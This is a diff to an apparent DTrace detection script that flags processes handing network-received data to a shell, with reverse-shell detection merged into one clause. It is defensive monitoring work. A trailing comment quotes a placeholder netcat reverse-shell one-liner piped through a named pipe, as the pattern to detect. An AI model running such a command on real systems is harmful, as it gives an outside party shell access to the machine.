@@ -113,6 +113,7 @@ socket:::state-change
 /arg2 == 2/
 {
 	outgoing[args[0]->so_address] = 1;
+	accepted[args[0]->so_address] = 0;
 }
 
 /* A datagram socket that has one at its other end is a connection, too. */
@@ -133,6 +134,11 @@ socket:::accept
 /args[0]->so_family == 2 || args[0]->so_family == 10/
 {
 	accepted[args[0]->so_address] = 1;
+	/* A datagram socket that was here before, which tells no end of its own. */
+	outgoing[args[0]->so_address] = 0;
+	uses[args[0]->so_address] = 0;
+	own[args[0]->so_address] = 0;
+	holder[args[0]->so_address] = 0;
 }
 
 /*
@@ -458,21 +464,13 @@ socket:::relayed
 	    execname, name[args[3]], program[args[3]], args[0]->so_raddr, args[0]->so_rport);
 }
 
-/* `sh -c` of what came, again and again: who does that is told when it sends or receives next. */
-socket:::send, socket:::receive
-/commands[args[0]->so_address] > 1 && commands[args[0]->so_address] > others[args[0]->so_address]
-    && heard[pid] == args[0]->so_address && outgoing[args[0]->so_address]/
+/* `sh -c` of what came, again and again: who does that is told when it asks for more. */
+socket:::receive
+/commands[args[0]->so_address] > 1 && commands[args[0]->so_address] > others[args[0]->so_address] && heard[pid] == args[0]->so_address/
 {
-	finding("%s has a shell run what %s port %d sends, on a connection that was made from here: %d commands were as long as what had come",
-	    execname, args[0]->so_raddr, args[0]->so_rport, commands[args[0]->so_address]);
-}
-
-socket:::send, socket:::receive
-/commands[args[0]->so_address] > 1 && commands[args[0]->so_address] > others[args[0]->so_address]
-    && heard[pid] == args[0]->so_address && accepted[args[0]->so_address]/
-{
-	finding("%s has a shell run what %s sends, on a connection that it made to port %d: %d commands were as long as what had come",
-	    execname, args[0]->so_raddr, args[0]->so_lport, commands[args[0]->so_address]);
+	finding("%s has a shell run what %s sends, on a connection that %s port %d: %d commands were as long as what had come", execname,
+	    args[0]->so_raddr, outgoing[args[0]->so_address] ? "was made from here to its" : "it made to",
+	    outgoing[args[0]->so_address] ? args[0]->so_rport : args[0]->so_lport, commands[args[0]->so_address]);
 }
 
 /* `(echo; cat fifo) | nc ADDRESS PORT | sh > fifo`: nobody tells who reads the named pipe, but the shell ran a program just before. */
